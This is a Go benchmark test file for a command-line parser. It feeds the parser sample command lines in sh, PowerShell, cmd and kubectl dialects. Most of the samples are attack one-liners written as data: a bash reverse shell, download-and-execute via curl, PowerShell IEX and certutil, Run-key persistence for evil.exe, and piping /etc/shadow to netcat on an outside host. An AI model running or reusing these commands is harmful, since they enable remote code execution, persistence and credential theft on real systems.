package parse

import "testing"

// benchLines are realistic command lines of each dialect.
var benchLines = map[string]string{
	"sh_short":       `ls -la /var/log`,
	"sh_pipeline":    `curl -fsSL http://203.0.113.7:8080/install.sh | sudo bash -s -- --token abc123 > /tmp/out.log 2>&1 && rm -f /tmp/x`,
	"sh_revshell":    `bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1' & disown`,
	"powershell":     `powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Command "IEX (New-Object Net.WebClient).DownloadString('http://evil.example.com/a.ps1'); Set-ItemProperty -Path HKCU:\Software\Microsoft\Windows\CurrentVersion\Run -Name u -Value $env:TEMP\u.exe"`,
	"cmd_reg":        `reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v Updater /t REG_SZ /d C:\Users\Public\evil.exe /f`,
	"cmd_chain":      `cmd.exe /c "certutil -urlcache -split -f http://1.2.3.4/p.exe %TEMP%\p.exe & start %TEMP%\p.exe" > nul 2>&1`,
	"docker_kubectl": `kubectl --context prod exec -it deploy/api -- sh -c "cat /etc/shadow | nc 198.51.100.3 9001"`,
}

func BenchmarkParse(b *testing.B) {
	for name, line := range benchLines {
		b.Run(name, func(b *testing.B) {
			b.ReportAllocs()
			b.SetBytes(int64(len(line)))
			for b.Loop() {
				Parse(line)
			}
		})
	}
}
